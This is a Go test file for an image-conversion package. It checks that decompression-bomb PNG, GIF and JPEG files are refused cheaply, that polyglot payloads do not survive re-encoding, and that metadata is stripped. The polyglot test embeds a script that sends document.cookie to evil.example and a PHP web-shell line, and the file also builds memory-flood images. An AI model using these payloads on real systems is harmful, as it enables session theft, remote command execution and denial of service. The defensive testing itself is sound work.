package imaging

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"math/rand/v2"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"musubi/transcode/imaging/internal/testpic"
)

// pngFlood writes a PNG that claims w × h pixels of a bit each, all of them there (up to 10⁹), in very few bytes.
func pngFlood(w, h uint32) []byte {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	row := make([]byte, 1+(w%1e9+7)/8)
	for range h {
		zw.Write(row)
	}
	zw.Close()
	head := binary.BigEndian.AppendUint32(nil, w)
	head = binary.BigEndian.AppendUint32(head, h)
	out := appendChunk([]byte("\x89PNG\r\n\x1a\n"), "IHDR", string(head)+"\x01\x00\x00\x00\x00")
	return appendChunk(appendChunk(out, "IDAT", z.String()), "IEND", "")
}

// gifFlood writes a GIF of a screen of w × h pixels and n frames of one pixel.
func gifFlood(w, h uint16, n int) []byte {
	out := []byte("GIF89a")
	out = binary.LittleEndian.AppendUint16(out, w)
	out = binary.LittleEndian.AppendUint16(out, h)
	out = append(out, 0x80, 0, 0, 0, 0, 0, 255, 255, 255)
	for range n {
		out = append(out, "\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"...)
	}
	return append(out, 0x3b)
}

// withSize changes the dimensions that a JPEG's frame header states.
func withSize(jpeg []byte, w, h uint16) []byte {
	out := bytes.Clone(jpeg)
	at := max(bytes.Index(out, []byte("\xff\xc0\x00")), bytes.Index(out, []byte("\xff\xc2\x00")))
	binary.BigEndian.PutUint16(out[at+5:], h)
	binary.BigEndian.PutUint16(out[at+7:], w)
	return out
}

// odd writes a JPEG of a rare kind: red, green and blue of unlike sizes.
func odd(o testpic.Options) []byte {
	jpeg := testpic.Draw(64, 48, 1).JPEG(o)
	if at := bytes.Index(jpeg, []byte("JFIF")); at > 0 {
		jpeg[at] = 'X'
	}
	sof := max(bytes.Index(jpeg, []byte("\xff\xc0\x00")), bytes.Index(jpeg, []byte("\xff\xc2\x00")))
	sos := bytes.Index(jpeg, []byte("\xff\xda\x00\x0c\x03"))
	for i, id := range []byte("RGB") {
		jpeg[sof+10+3*i], jpeg[sos+5+2*i] = id, id
	}
	return jpeg
}

// segments writes n JPEG segments of the largest size before the rest of a file.
func segments(jpeg []byte, marker byte, n int) []byte {
	out := append([]byte(nil), jpeg[:2]...)
	for range n {
		out = append(append(out, 0xff, marker, 0xff, 0xff), make([]byte, 65533)...)
	}
	return append(out, jpeg[2:]...)
}

// progressiveFlood is a file of n scans over a picture of 36 MP, each of a few bytes that say there is nothing new.
func progressiveFlood(n int) []byte {
	out := append([]byte("\xff\xd8\xff\xdb\x00\x43\x00"), bytes.Repeat([]byte{1}, 64)...)
	out = append(out, "\xff\xc2\x00\x0b\x08\x17\x70\x17\x70\x01\x01\x11\x00"...)
	for _, class := range []byte{0x00, 0x10} { // codes: 0 is symbol 0x00 (no difference) or 0xe0 (end of a run of 2^14 blocks)
		dht := append([]byte{0xff, 0xc4, 0, 20, class, 1}, make([]byte, 15)...)
		out = append(append(out, dht...), class>>4*0xe0)
	}
	run := append([]byte("\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x00"), make([]byte, 70)...)
	out = append(append(out, "\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00"...), make([]byte, 750*750/8+1)...)
	for range n {
		out = append(out, run...)
	}
	return append(out, 0xff, 0xd9)
}

// TestSEC80_LimitsBeforeDecoding: each hostile file is refused or shown, quickly and in little memory.
func TestSEC80_LimitsBeforeDecoding(t *testing.T) {
	photo := testpic.Draw(320, 240, 1).JPEG(testpic.Options{})
	small := testpic.Draw(16, 16, 1).JPEG(testpic.Options{})
	for _, c := range []struct {
		name string
		src  []byte
		want error // nil: a picture
	}{
		{"empty", nil, ErrFormat},
		{"PNG of 30000²", pngFlood(30000, 30000), ErrTooLarge},
		{"PNG of 10000 × 4001", pngFlood(10000, 4001), ErrTooLarge},
		{"PNG of 10001 × 1", pngFlood(10001, 1), ErrTooLarge},
		{"PNG of 1 × 65535", pngFlood(1, 65535), ErrTooLarge},
		{"PNG of 0 × 0", pngFlood(0, 0), ErrBroken},
		{"PNG of 2³¹ × 1", pngFlood(1<<31, 0), ErrBroken},
		{"PNG header alone", pngFlood(10, 10)[:33], ErrBroken},
		{"PNG cut off", pngFlood(4000, 4000)[:200], nil},
		{"GIF of 65535²", gifFlood(65535, 65535, 1), ErrTooLarge},
		{"GIF of 0 × 0", gifFlood(0, 0, 1), nil},
		{"GIF of 5000 frames", gifFlood(4, 4, 5000), nil},
		{"GIF of 99 frames of 10 MP", gifFlood(4000, 2500, 99), nil},
		{"GIF without frames", gifFlood(4, 4, 0), ErrBroken},
		{"JPEG of 65535²", withSize(small, 65535, 65535), ErrTooLarge},
		{"JPEG of 1 × 65535", withSize(small, 1, 65535), ErrTooLarge},
		{"JPEG of 0 × 100", withSize(small, 0, 100), ErrBroken},
		{"JPEG that claims 36 MP and has 256 pixels", withSize(small, 6000, 6000), ErrBroken},
		{"JPEG cut off", photo[:len(photo)/2], nil},
		{"JPEG cut off in its header", photo[:100], ErrBroken},
		{"JPEG of two bytes", []byte("\xff\xd8"), ErrFormat},
		{"JPEG with 9 MB of APP1", segments(photo, 0xe1, 140), nil},
		{"JPEG with 9 MB of DHT", segments(photo, 0xc4, 140), ErrBroken},
		{"JPEG of 100000 scans", progressiveFlood(100000), nil},
		{"odd JPEG", odd(testpic.Options{}), nil},
		{"odd JPEG that claims 36 MP", withSize(odd(testpic.Options{}), 6000, 6001), ErrTooLarge},
		{"odd JPEG that claims 16 MP", withSize(odd(testpic.Options{}), 4000, 4000), ErrTooLarge},
		{"progressive odd JPEG that claims 13 MP", withSize(odd(testpic.Options{Progressive: true}), 4000, 3251), ErrTooLarge},
		{"26 MB of zeros after a JPEG's magic", append([]byte("\xff\xd8\xff"), make([]byte, 26<<20)...), ErrTooLarge},
		{"PNG magic before a JPEG", append([]byte("\x89PNG\r\n\x1a\n"), photo...), ErrBroken},
	} {
		t.Run(c.name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			start := time.Now()
			_, _, large := Convert(nil, c.src, Limits{})
			out, info, err := Convert(nil, c.src, Limits{Width: 240, Height: 320})
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if c.want == nil && err != nil || !errors.Is(err, c.want) {
				t.Fatalf("error %v, want %v", err, c.want)
			}
			if c.want != nil && !errors.Is(large, c.want) {
				t.Errorf("at full size: %v, want %v", large, c.want)
			}
			if err == nil {
				read(t, out, info)
			}
			if took > 10*time.Second {
				t.Errorf("took %v", took)
			}
			if used := after.TotalAlloc - before.TotalAlloc; used > 256<<20 {
				t.Errorf("took %d MB", used>>20)
			}
		})
	}
}

// TestSEC80_FloodsCostNothing: what a header gives away is refused without memory for pixels.
func TestSEC80_FloodsCostNothing(t *testing.T) {
	for name, src := range map[string][]byte{
		"PNG": pngFlood(20000, 20000), "GIF": gifFlood(65535, 65535, 1),
		"JPEG": withSize(testpic.Draw(16, 16, 1).JPEG(testpic.Options{}), 65535, 65535),
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		for range 10 {
			if _, _, err := Convert(nil, src, Limits{}); !errors.Is(err, ErrTooLarge) {
				t.Fatalf("%s: %v", name, err)
			}
		}
		runtime.ReadMemStats(&after)
		if used := (after.TotalAlloc - before.TotalAlloc) / 10; used > 64<<10 {
			t.Errorf("%s of %d bytes: %d bytes of memory to refuse it", name, len(src), used)
		}
	}
}

// TestSEC80_FiftyAtOnce: memory stays bounded with many large pictures through one gate.
func TestSEC80_FiftyAtOnce(t *testing.T) {
	src := pngFlood(4000, 3000)
	gate := &Gate{Workers: 50}
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	stop, done := make(chan bool), make(chan uint64)
	go func() {
		most := uint64(0)
		for {
			select {
			case <-stop:
				done <- most
				return
			case <-time.After(2 * time.Millisecond):
				var now runtime.MemStats
				runtime.ReadMemStats(&now)
				most = max(most, now.HeapInuse)
			}
		}
	}()
	var all sync.WaitGroup
	for range 50 {
		all.Go(func() {
			if _, _, err := gate.Convert(t.Context(), nil, src[:len(src)-20], Limits{Width: 76, Height: 76}); err != nil {
				t.Error(err)
			}
		})
	}
	all.Wait()
	close(stop)
	if most := <-done; most > before.HeapInuse+256<<20 {
		t.Errorf("heap grew by %d MB, want ≤ 256", (most-before.HeapInuse)>>20)
	}
}

// TestSEC81_ForeignFormatsAreNamed: the error says what it is and what is accepted.
func TestSEC81_ForeignFormatsAreNamed(t *testing.T) {
	for name, src := range map[string]string{
		"HEIC": "\x00\x00\x00\x18ftypheic\x00", "PDF": "%PDF-1.4",
		"a video": "\x00\x00\x00\x18ftypmp42",
		"JPEG XL": "\xff\x0a\xfa", "JPEG 2000": "\x00\x00\x00\x0cjP  \r\n", "a Photoshop file": "8BPS\x00\x01",
		"not a picture": "<html><script>alert(1)</script>",
	} {
		_, _, err := Convert(nil, []byte(src), Limits{})
		if !errors.Is(err, ErrFormat) || !strings.Contains(err.Error(), name) || !strings.Contains(err.Error(), "send JPEG, PNG, GIF, WebP, AVIF, BMP, TIFF, ICO or SVG") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestSEC81_PolyglotsAreEncodedAfresh: no 16 bytes in a row of what was smuggled in come out again, whatever the formats.
func TestSEC81_PolyglotsAreEncodedAfresh(t *testing.T) {
	payload := []byte("<html><body><script>document.location='http://evil.example/'+document.cookie</script><?php system($_GET['c']); ?>" +
		"PK\x03\x04\x14\x00\x08\x00META-INF/MANIFEST.MF Created-By: 1.6 %PDF-1.4 1 0 obj<</Type/Catalog>>endobj")
	drawn := testpic.Draw(200, 150, 4)
	jpeg := drawn.JPEG(testpic.Options{})
	var pngFile, gifFile bytes.Buffer
	if err := png.Encode(&pngFile, drawn.Image()); err != nil {
		t.Fatal(err)
	}
	if err := gif.Encode(&gifFile, drawn.Image(), nil); err != nil {
		t.Fatal(err)
	}
	comment := append(append([]byte("\xff\xd8"), 0xff, 0xfe, byte((len(payload)+2)>>8), byte(len(payload)+2)), payload...)
	pngHead := pngFile.Bytes()[:33]
	sources := map[string][]byte{
		"after a JPEG (GIFAR)":  append(bytes.Clone(jpeg), payload...),
		"in a JPEG comment":     append(bytes.Clone(comment), jpeg[2:]...),
		"in a JPEG APP1":        append(append([]byte("\xff\xd8\xff\xe1"), append([]byte{byte((len(payload) + 2) >> 8), byte(len(payload) + 2)}, payload...)...), jpeg[2:]...),
		"after a PNG":           append(bytes.Clone(pngFile.Bytes()), payload...),
		"in a PNG text":         append(appendChunk(bytes.Clone(pngHead), "tEXt", "Comment\x00"+string(payload)), pngFile.Bytes()[33:]...),
		"after a GIF":           append(bytes.Clone(gifFile.Bytes()), payload...),
		"in a PNG's pixels":     pngOf(payload),
		"in a GIF's palette":    gifOf(payload),
		"in a PNG's full pixel": pngOf(bytes.Repeat(payload, 40)),
	}
	for name, src := range sources {
		for _, to := range []Formats{JPEG, PNG, GIF, BMP} {
			out, info, err := Convert(nil, src, Limits{Width: 120, Height: 120, Formats: to})
			if err != nil {
				t.Fatalf("%s to %v: %v", name, to, err)
			}
			read(t, out, info)
			for i := 0; i+16 <= len(payload); i++ {
				if bytes.Contains(out, payload[i:i+16]) {
					t.Errorf("%s to %v: %q came through", name, to, payload[i:i+16])
					break
				}
			}
		}
	}
}

// pngOf writes a picture whose bytes of grey are the payload, without compression.
func pngOf(payload []byte) []byte {
	img := image.NewGray(image.Rect(0, 0, 40, (len(payload)+39)/40))
	copy(img.Pix, payload)
	var out bytes.Buffer
	(&png.Encoder{CompressionLevel: png.NoCompression}).Encode(&out, img)
	return out.Bytes()
}

// gifOf writes a picture whose palette is the payload.
func gifOf(payload []byte) []byte {
	img := image.NewPaletted(image.Rect(0, 0, 16, 16), nil)
	for i := 0; i+3 <= len(payload) && len(img.Palette) < 256; i += 3 {
		img.Palette = append(img.Palette, color.NRGBA{payload[i], payload[i+1], payload[i+2], 255})
	}
	for i := range img.Pix {
		img.Pix[i] = uint8(i % len(img.Palette))
	}
	var out bytes.Buffer
	gif.Encode(&out, img, nil)
	return out.Bytes()
}

// TestSEC82_MetadataIsGone: EXIF, XMP, IPTC, profiles, comments and thumbnails stay behind; results have no segment or
// chunk but those this package writes.
func TestSEC82_MetadataIsGone(t *testing.T) {
	secret := "35.6586 N 139.7454 E, owner Yamada Taro"
	drawn := testpic.Draw(200, 150, 4)
	jpeg := drawn.JPEG(testpic.Options{Orientation: 3})
	rng := rand.New(rand.NewPCG(8, 2))
	for range 200 {
		marker := []byte{0xe0, 0xe1, 0xe2, 0xed, 0xee, 0xef, 0xfe}[rng.IntN(7)]
		head := []string{"Exif\x00\x00", "http://ns.adobe.com/xap/1.0/\x00", "Photoshop 3.0\x00", "ICC_PROFILE\x00\x01\x01", "JFXX\x00\x10", ""}[rng.IntN(6)]
		body := head + strings.Repeat(secret, 1+rng.IntN(100))
		src := append([]byte("\xff\xd8\xff"), marker, byte((len(body)+2)>>8), byte(len(body)+2))
		src = append(append(append(src, body...), jpeg[2:]...), secret...)
		out, _, err := Convert(nil, src, Limits{Width: 120, Height: 120})
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(out, []byte("Yamada")) {
			t.Fatalf("marker %x, %q: came through", marker, head)
		}
		onlyKnownSegments(t, out)
	}
	var file bytes.Buffer
	if err := png.Encode(&file, drawn.Image()); err != nil {
		t.Fatal(err)
	}
	src := bytes.Clone(file.Bytes()[:33])
	for _, kind := range []string{"tEXt", "iTXt", "zTXt", "eXIf", "iCCP", "tIME", "prVt"} {
		src = appendChunk(src, kind, "k\x00"+secret)
	}
	for _, to := range []Formats{JPEG, PNG, GIF} {
		out, _, err := Convert(nil, append(src, file.Bytes()[33:]...), Limits{Width: 120, Height: 120, Formats: to})
		if err != nil || bytes.Contains(out, []byte("Yamada")) {
			t.Errorf("PNG to %v: %v", to, err)
		}
	}
}

// onlyKnownSegments fails unless a JPEG consists of the segments that jpegenc writes, and ends with them.
func onlyKnownSegments(t *testing.T, jpeg []byte) {
	t.Helper()
	var markers []byte
	for at := 2; at+4 <= len(jpeg); {
		markers = append(markers, jpeg[at+1])
		if jpeg[at+1] == 0xda {
			break
		}
		at += 2 + int(binary.BigEndian.Uint16(jpeg[at+2:]))
	}
	if string(markers) != "\xe0\xdb\xc0\xc4\xda" || !bytes.HasSuffix(jpeg, []byte("\xff\xd9")) {
		t.Fatalf("markers % x", markers)
	}
}
